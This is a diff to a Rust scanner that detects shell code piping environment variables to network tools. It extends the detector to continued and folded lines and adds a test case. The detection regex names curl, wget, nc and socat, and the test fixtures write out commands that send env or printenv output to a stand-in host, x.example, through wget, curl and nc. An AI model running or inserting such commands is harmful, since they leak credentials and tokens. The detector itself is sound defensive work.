@@ -257,7 +257,21 @@ fn environment_piped(code: &Code) -> Option<usize> {
             r#"|\b(?:curl|wget|nc|ncat|netcat|socat)\b[^\n]*\$\((?:env|printenv)\)"#,
         ))
     });
-    first_line(code, |text| piped.is_match(text))
+    // Line by line, each continuation joined (`env \` then `| curl …`),
+    // and as folded.
+    let written = code
+        .logical_lines()
+        .find(|(_, line)| {
+            let t = line.trim_ascii_start();
+            !t.starts_with(b"#") && !t.starts_with(b"//") && piped.is_match(line)
+        })
+        .map(|(n, _)| n);
+    let folded = code
+        .folded()
+        .iter()
+        .find(|f| piped.is_match(&f.text))
+        .map(|f| f.n);
+    written.into_iter().chain(folded).min()
 }
 
 /// What [`clipboard_swap`] looks for first, in every code file.
@@ -794,6 +808,7 @@ mod tests {
             ("install.sh", "printenv | base64 | /usr/bin/wget --post-data=@- https://x.example"),
             ("CMakeLists.txt", "execute_process(COMMAND sh -c \"curl -d \\\"$(env)\\\" https://x.example\")"),
             ("Makefile", "\t@env|nc x.example 4444"),
+            ("install.sh", "env \\\n  | gzip | curl --data-binary @- https://x.example"),
         ] {
             assert_eq!(
                 first_spying_line(path, code.as_bytes()),
